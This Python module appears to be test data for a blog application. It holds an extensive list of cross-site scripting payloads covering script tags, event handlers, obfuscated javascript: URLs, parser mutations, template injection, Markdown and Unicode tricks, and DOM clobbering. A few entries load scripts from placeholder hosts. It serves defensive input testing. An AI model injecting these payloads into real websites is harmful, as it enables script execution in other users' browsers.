"""What people send to run a script in somebody else's browser, for every place that shows a text.

Nearly all would call `alert` if they were let; the others lead elsewhere or are only strange. They
are texts that a post may have: of control characters only newline and tab. `RUN` is the call.
"""

from itertools import product

from blog_core.domain.text import TITLE_MAX, USERNAME_MAX

_ELEMENTS = [
    "<script>RUN</script>", "<script>RUN", "<script>RUN//", "<SCRIPT>RUN</SCRIPT>",
    "<ScRiPt>RUN</sCrIpT>", "<script\n>RUN</script\n>", "<script\t>RUN</script >",
    "<script/x>RUN</script>", "<script x=>RUN</script>", "<scr<script>ipt>RUN</scr</script>ipt>",
    "<<script>RUN//<</script>", "<script>/**/RUN</script>", "<script type=module>RUN</script>",
    "<script src=data:,RUN></script>", "<script src=//x/RUN></script>",
    "<script>eval('RUN')</script>", "<script>`${RUN}`</script>", "<script><!--\nRUN\n--></script>",
    "<svg><script>RUN</script></svg>", "<svg><script>&#97;lert(1)</script>",
    "<math><script>RUN</script></math>", "<svg/onload=RUN>", "<svg onload=RUN>",
    "<svg\nonload=RUN>", "<svg\tonload=RUN>", "<svg onload = RUN>", '<svg onload="RUN">',
    "<svg onload='RUN'>", "<svg onload=`RUN`>", "<svg onload=RUN", "<svg/onload=RUN//",
    "<SVG ONLOAD=RUN>", "<svg onload=&#97;lert(1)>", "<svg onload=\\u0061lert(1)>",
    "<svg onload=eval('RUN')>", "<img src=x onerror=RUN>", "<img src onerror=RUN>",
    "<img/src=x/onerror=RUN>", "<img src=x\nonerror=RUN>", '<img src="x" onerror="RUN">',
    "<img src='x'onerror='RUN'>", "<img src=x onerror=RUN//", "<IMG SRC=X ONERROR=RUN>",
    "<img src=`x` onerror=RUN>", "<img src=x:x onerror=RUN>", "<img src=x onerror=alert`1`>",
    "<image src=x onerror=RUN>", "<img srcset=x onerror=RUN>",
    "<img src=x onerror=top['al'+'ert'](1)>", "<img src=x onerror=(alert)(1)>",
    "<img src=x onerror=throw/1/,onerror=alert>", '<img """><script>RUN</script>">',
    "<img src=x onload=RUN>", "<body onload=RUN>", "<body onpageshow=RUN>",
    "<body onhashchange=RUN>", "<body background=javascript:RUN>", "<frameset onload=RUN>",
    "<iframe onload=RUN>", "<iframe src=x onload=RUN></iframe>", "<object data=x onerror=RUN>",
    "<embed src=x onload=RUN>", "<video src=x onerror=RUN>", "<video><source onerror=RUN>",
    "<audio src=x onerror=RUN>", "<video autoplay onloadstart=RUN src=x>",
    "<video poster=javascript:RUN>", "<audio onprogress=RUN src=x>",
    "<input autofocus onfocus=RUN>", "<input type=image src=x onerror=RUN>",
    "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN>",
    "<button autofocus onfocus=RUN>x", "<button popovertarget=p onclick=RUN>x",
    "<div popover id=p onbeforetoggle=RUN>", "<keygen autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>", "<details open><summary onclick=RUN>x", "<marquee onstart=RUN>x",
    "<marquee loop=1 onfinish=RUN>x", "<a onmouseover=RUN>x</a>",
    "<a tabindex=1 autofocus onfocus=RUN>x", "<b onclick=RUN>x</b>", "<p onpointerover=RUN>x",
    "<div onwheel=RUN>x", "<div contenteditable autofocus onfocus=RUN>",
    "<div oncontentvisibilityautostatechange=RUN>", "<xss onclick=RUN tabindex=1>x",
    "<xss autofocus tabindex=1 onfocus=RUN>", "<dialog open onclose=RUN>x",
    "<style onload=RUN></style>", "<link rel=stylesheet href=x onerror=RUN>",
    "<script src=x onerror=RUN></script>", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set onbegin=RUN attributeName=x dur=1s>", "<svg><image href=x onerror=RUN>",
    "<svg><a xlink:href=javascript:RUN><text y=9>x", "<svg><use href=data:,RUN>",
    "<svg><discard onbegin=RUN>", "<svg><title onclick=RUN>x", "<svg><desc><img src=x onerror=RUN>",
    "<svg><foreignObject><img src=x onerror=RUN>",
    "<svg><handler type=text/javascript>RUN</handler>", "<math><mi onclick=RUN>x",
    "<math href=javascript:RUN>x</math>", "<math><maction actiontype=x href=javascript:RUN>",
    "<table background=javascript:RUN>", "<td background=javascript:RUN>",
    "<bgsound src=javascript:RUN>", "<layer src=javascript:RUN>",
    "<isindex action=javascript:RUN type=submit>", "<template><script>RUN</script></template>",
    "<noscript><img src=x onerror=RUN></noscript>", "<plaintext onclick=RUN>",
    "<xml onreadystatechange=RUN>", "<!--><img src=x onerror=RUN>-->",
    "<!--[if IE]><script>RUN</script><![endif]-->", "<?xml x='><img src=x onerror=RUN>'?>",
    "<![CDATA[<img src=x onerror=RUN>]]>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=RUN>'>]>",
    '<comment><img src="</comment><img src=x onerror=RUN>">',
]  # fmt: skip
"""Elements that run something by themselves, or when they are touched."""

_FRAMES = [
    "<base href=javascript:RUN//>", "<base href=//x.example><script src=a.js>",
    "<base target=javascript:RUN>", "<meta http-equiv=refresh content=0;url=javascript:RUN>",
    "<meta http-equiv=refresh content='0;data:text/html,<script>RUN</script>'>",
    "<meta http-equiv=set-cookie content=x=1>", "<meta charset=utf-7>+ADw-script+AD4-RUN",
    "<meta name=referrer content=unsafe-url>", "<iframe src=javascript:RUN>",
    "<iframe srcdoc='<script>RUN</script>'>", "<iframe srcdoc=&lt;script&gt;RUN&lt;/script&gt;>",
    "<iframe src=data:text/html,<script>RUN</script>>", "<object data=javascript:RUN>",
    "<object><param name=url value=javascript:RUN>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<embed src=javascript:RUN>", "<embed code=javascript:RUN>", "<applet code=javascript:RUN>",
    "<form action=javascript:RUN><input type=submit>", "<form><button formaction=javascript:RUN>x",
    "<form id=f action=javascript:RUN></form><button form=f>x",
    "<form><input type=image formaction=javascript:RUN>", "<portal src=javascript:RUN>",
    "<link rel=import href=data:text/html,<script>RUN</script>>",
    "<link rel=preload as=script href=//x.example onload=RUN>",
    "<a href=x ping=javascript:RUN>x</a>", "<a href=javascript:RUN target=_blank>x</a>",
    "<area href=javascript:RUN shape=default>",
]  # fmt: skip
"""Elements that lead elsewhere, or bring something else in."""

_MUTATIONS = [
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<math><mtext><mglyph><style><!--</style><img src=x onerror=RUN>",
    "<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
    "<svg><style><img src=x onerror=RUN></style>",
    "<svg><p><style><g title='</style><img src=x onerror=RUN>'>",
    "<math></p><style><!--</style><img src=x onerror=RUN>-->",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<select><style></select><img src=x onerror=RUN></style>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'>",
    "<table><td><svg><desc><td></desc><img src=x onerror=RUN>",
    "<textarea><p title='</textarea><img src=x onerror=RUN>'>",
    "<title><p title='</title><img src=x onerror=RUN>'>",
    "<p><svg><![CDATA[<img src=x onerror=RUN>]]>",
    "<iframe><p title='</iframe><img src=x onerror=RUN>'>",
    "<noembed><p title='</noembed><img src=x onerror=RUN>'>",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=RUN>'>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=RUN>",
    "<a><a><img src=x onerror=RUN></a>", "<b><p></b><img src=x onerror=RUN>",
    "<template><s><template><s><img src=x onerror=RUN>",
]  # fmt: skip
"""What one parser reads as text, and the next as an element."""

_BREAKOUTS = [
    '">', "'>", "`>", "-->", "</title>", "</textarea>", "</style>", "</script>", "</noscript>",
    "]]>", "</select>", "</template>", "</pre></code>", "</p></div>", '"/>', '\\">', "*/",
]  # fmt: skip
"""What could end where a text stands."""

_FREE = [
    "<script>RUN</script>", "<img src=x onerror=RUN>", "<svg onload=RUN>",
]  # fmt: skip

_ATTRIBUTES = [
    '" autofocus onfocus=RUN x="', "' autofocus onfocus=RUN x='", '" onmouseover=RUN x="',
    "' onmouseover=RUN x='", '" style=animation-name:x onanimationstart=RUN x="', '" onload=RUN ',
    "` onerror=RUN `", '"onclick=RUN//', "x onerror=RUN ", "&quot; onfocus=RUN autofocus x=&quot;",
    "&#34; onfocus=RUN x=&#34;", "&#x27; onfocus=RUN x=&#x27;", '\\" onfocus=RUN \\"',
    '"\nonfocus=RUN\nautofocus\nx="',
]  # fmt: skip
"""Texts that could end an attribute and begin another."""

_IN_SCRIPTS = [
    "';RUN//", '";RUN//', "\\';RUN//", "'-RUN-'", '"-RUN-"', "${RUN}", "`;RUN//`",
    "</script><svg onload=RUN>", "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "\\x3cscript\\x3eRUN\\x3c/script\\x3e", "\u2028RUN//", "\u2029RUN//", "*/RUN/*",
    "<!--<script>RUN", "};RUN;{", ");RUN;(", "[]['fill']['constructor']('RUN')()",
    "constructor.constructor('RUN')()",
]  # fmt: skip
"""Texts that could end a string in a script."""

_TEMPLATES = [
    "{{RUN}}", "{{constructor.constructor('RUN')()}}", "{%if 1%}<script>RUN</script>{%endif%}",
    "{{'<script>RUN</script>'|safe}}", "<%= RUN %>", "#{RUN}", "{{7*7}}<script>RUN</script>",
    "[[${RUN}]]", "{{self.__init__.__globals__}}RUN", "{{request.application}}RUN",
    "{{x|attr('__class__')}}RUN", "<div v-html=\"'<img src=x onerror=RUN>'\">",
    "<div ng-app>{{$on.constructor('RUN')()}}</div>", "<x x-init=RUN>", "<x hx-on:load=RUN>",
    "{#each x}RUN{/each}", "@(RUN)", "*{RUN}", "~{RUN}", "%7B%7BRUN%7D%7D",
]  # fmt: skip
"""What template languages of servers and browsers would work out."""

_STYLES = [
    "<style>@import'javascript:RUN';</style>", "<style>*{background:url(javascript:RUN)}</style>",
    "<p style=x:expression(RUN)>x", "<p style=-moz-binding:url(//x/#RUN)>x",
    "<p style=behavior:url(RUN)>x", "<p style='background:url(\"javascript:RUN\")'>x",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationend=RUN>",
    "<p style=position:fixed;inset:0 onclick=RUN>x",
    "<link rel=stylesheet href=data:,*{x:expression(RUN)}>",
    "<style></style><img src=x onerror=RUN>", "<p style=x:\\65xpression(RUN)>x",
    "<style>li{list-style:url('javascript:RUN')}</style><ul><li>x",
]  # fmt: skip
"""Styles that ran scripts once, and those that cover a page."""

_SCHEMES = [
    "javascript:RUN", "JAVASCRIPT:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "java\nscript:RUN",
    "java&#9;script:RUN", "java&#10;script:RUN", "java&#13;script:RUN", "java&Tab;script:RUN",
    "java&NewLine;script:RUN", "javascript&colon;RUN", "javascript&#58;RUN", "javascript&#x3a;RUN",
    "javascript&#0000058RUN", "&#106;avascript:RUN", "&#x6A;avascript:RUN",
    "&#x6a&#x61&#x76&#x61script:RUN", "jav&#x0A;ascript:RUN", "%6Aavascript:RUN",
    "javascript%3ARUN", "java%0ascript:RUN", "java%00script:RUN", "javascript://%0aRUN",
    "javascript://x.example/%0aRUN", "javascript:/*x*/RUN", " javascript:RUN", "&#1;javascript:RUN",
    "&#14; javascript:RUN", "\xa0javascript:RUN", "\ufeffjavascript:RUN", "\u200bjavascript:RUN",
    "\uff4aavascript:RUN", "javascript\uff1aRUN", "javas\u200bcript:RUN", "jav\xadascript:RUN",
    "\\javascript:RUN", "javascript\\:RUN", "vbscript:msgbox(1)//RUN", "VBSCRIPT:RUN",
    "livescript:RUN", "mocha:RUN", "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "DATA:text/html,RUN",
    "data:image/svg+xml,<svg/onload=RUN>", "data:application/xhtml+xml,RUN", "data:,RUN",
    "file:///RUN", "filesystem:RUN", "blob:RUN", "view-source:javascript:RUN",
    "feed:javascript:RUN", "jar:javascript:RUN!/", "about:blank#RUN", "intent:RUN",
    "ms-its:javascript:RUN", "x:javascript:RUN", "mailto:x@x.example?body=<script>RUN</script>",
    "https://javascript:RUN", "//x.example/RUN",
]  # fmt: skip
"""Addresses that are scripts, plain and in disguise."""

_CARRIERS = [
    "[x](RUN)", "[x](<RUN>)", "![x](RUN)", "<RUN>", "[x]: RUN\n\n[x]", '<a href="RUN">x</a>',
]  # fmt: skip
"""Where an address can stand."""

_MARKDOWN = [
    '[x](# "\\"onmouseover=RUN")', "[x](# '\"onmouseover=RUN x=\"')", '![x](x "\\"onerror=RUN")',
    '![x"onerror="RUN](x)', '![x](x"onerror="RUN)', '[x](x"onmouseover="RUN)',
    '!["""""""""onerror=RUN](x)', "[<img src=x onerror=RUN>](x)", "[![x](x)](javascript:RUN)",
    "![[x](javascript:RUN)](x)", "[x][javascript:RUN]",
    "[x]\n\n[x]: <javascript:RUN> '\"onclick=RUN'", "[x]: # '\"onclick=RUN'\n\n[x]",
    "[javascript:RUN]\n\n[javascript:RUN]: javascript:RUN", '```"onclick=RUN\nx\n```',
    "```html onload=RUN\n<script>RUN</script>\n```", "```<script>RUN</script>\nx\n```",
    '```x" onmouseover="RUN\nx', "~~~'><img/src=x/onerror=RUN>\nx", "`<script>RUN</script>`",
    "``</code><script>RUN</script>``", "    </code></pre><script>RUN</script>",
    "|<script>RUN</script>|\n|-|\n|<svg onload=RUN>|", '|x|\n|:-:"onclick=RUN|\n|x|',
    "|x|\n|-|\n|![x](javascript:RUN)|", "x[^1]\n\n[^1]: <script>RUN</script>",
    'x[^"onclick=RUN]\n\n[^"onclick=RUN]: x', "x[^<svg/onload=RUN>]\n\n[^<svg/onload=RUN>]: x",
    "[^1]\n\n[^1]: [x](javascript:RUN)", "^[<script>RUN</script>]", "# <script>RUN</script>",
    "# x {onclick=RUN}", "[x](x){onclick=RUN}", "![x](x){onerror=RUN}", "<script>RUN</script>\n===",
    "> <svg onload=RUN>", "- <svg onload=RUN>", "1. <svg onload=RUN>", "***<svg onload=RUN>***",
    "\\<script>RUN\\</script>", "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;", "&amp;lt;script&amp;gt;RUN",
    '<http://x.example/"onclick=RUN>', '<x@x.example"onclick=RUN>',
    "<https://x.example><script>RUN</script>", "<javascript:RUN>", "[x](javascript:RUN\n)",
    "[x](\njavascript:RUN)", "[x](javascript:RUN 'x')", "[x](<javascript:RUN> 'x')",
    "[ ](javascript:RUN)", "[](javascript:RUN)", "[[x](javascript:RUN)](javascript:RUN)",
    "<div markdown=1>[x](javascript:RUN)</div>", "<p>\n\n[x](javascript:RUN)\n\n</p>",
    "<!-- -->\n[x](javascript:RUN)", "$$\\href{javascript:RUN}{x}$$",
    "$\\unicode{<img src=x onerror=RUN>}$", ":::x onclick=RUN\nx\n:::", "[[x|javascript:RUN]]",
    "[toc]: javascript:RUN\n\n[toc]",
]  # fmt: skip
"""Markdown that could become more than it should."""

_LOOKALIKES = [
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e", "\u2039script\u203aRUN\u2039/script\u203a",
    "\u3008script\u3009RUN", "\ufe64script\ufe65RUN", "<\u200bscript>RUN</script>",
    "<\ufeffscript>RUN</script>", "<scr\xadipt>RUN</script>", "<\u017fcript>RUN</script>",
    "<\u212amg src=x onerror=RUN>", "<\u0131mg src=x onerror=RUN>", "<img src=x \u2028onerror=RUN>",
    "<img\xa0src=x\xa0onerror=RUN>", "<img\u3000src=x onerror=RUN>", "\u202e<script>RUN</script>",
    "\u2066<svg onload=RUN>\u2069", "<\U000e0073cript>RUN</script>", "%3Cscript%3ERUN%3C/script%3E",
    "%253Cscript%253ERUN", "%u003Cscript%u003ERUN", "\\074script\\076RUN", "&ltscript&gtRUN",
    "&#x3Cscript&#x3E;RUN", "&#0000060script>RUN", "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "<img src=x&#0; onerror=RUN>", "<scr&#0;ipt>RUN</script>", "<scr\ufffdipt>RUN</script>",
    "<script\u0301>RUN</script>", "<\u0338script>RUN",
]  # fmt: skip
"""Characters that somebody might take for others."""

_CLOBBERING = [
    "<a id=location href=javascript:RUN>x", "<a id=x><a id=x name=y href=javascript:RUN>x",
    "<form id=document><input name=body>RUN",
    "<form name=location><input name=href value=javascript:RUN>", "<img name=getElementById>RUN",
    "<img id=currentScript src=x>RUN", "<a id=defaultView href=javascript:RUN>x",
    "<iframe name=self srcdoc=x>RUN", "<form id=main><output id=children>RUN",
    "<input id=attributes>RUN", "<object name=cookie data=x>RUN", "<a id=theme href=data:,RUN>x",
    "<embed name=location src=x>RUN", "<slot id=fn-1-1 onslotchange=RUN>", "<p id=__proto__>RUN",
    "<p id=constructor>RUN", "<p class=table role=dialog onclick=RUN>",
    "<a rel=opener target=_parent href=javascript:RUN>x", "<label for=login onclick=RUN>x",
    "<button form=login formaction=javascript:RUN>x",
]  # fmt: skip
"""Names and ids that would stand in for a page's own."""

_SHAPES = [
    *_ELEMENTS, *_FRAMES, *_MUTATIONS, *_ATTRIBUTES, *_IN_SCRIPTS, *_TEMPLATES, *_STYLES,
    *_MARKDOWN, *_LOOKALIKES, *_CLOBBERING,
    *(carrier.replace("RUN", scheme) for carrier, scheme in product(_CARRIERS, _SCHEMES)),
    *(breakout + free for breakout, free in product(_BREAKOUTS, _FREE)),
]  # fmt: skip

_LONG = [
    "x" * 120 + "<script>RUN</script>",
    "<" * 200 + "script>RUN</script>",
    "<div>" * 100 + "<img src=x onerror=RUN>" + "</div>" * 100,
    "> " * 25 + "<svg onload=RUN>",
    "[" * 100 + "x](javascript:RUN)",
    "![" * 50 + "x](javascript:RUN)" * 50,
    "<!--" + "-" * 200 + "><script>RUN</script>",
    "<img " + "x=1 " * 100 + "src=x onerror=RUN>",
    "`" * 300 + "<script>RUN</script>",
    "[x](" + "java\tscript:" * 20 + "RUN)",
    "|x" * 50 + "|\n" + "|-" * 50 + "|\n" + "|<svg onload=RUN>" * 50 + "|",
    "".join(f"[^{n}]" for n in range(40)) + "\n\n" + "[^7]: <svg onload=RUN>",
    "data:text/html;base64," + "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg" * 5 + "<script>RUN</script>",
    "\n\n".join(["<script>RUN</script>", "# <svg onload=RUN>", "- [x](javascript:RUN)"] * 5),
]

_ALL = list(dict.fromkeys(shape.replace("RUN", "alert(1)") for shape in [*_SHAPES, *_LONG]))

TITLES = [payload for payload in _ALL if len(payload) <= TITLE_MAX]
"""Those that a title has room for, and therefore a content, too."""

NAMES = [
    payload
    for payload in TITLES
    if len(payload) <= USERNAME_MAX and payload.isprintable() and payload == payload.strip()
]
"""Those of them that a username may be."""

CONTENTS = _ALL
"""All of them, some of them longer."""
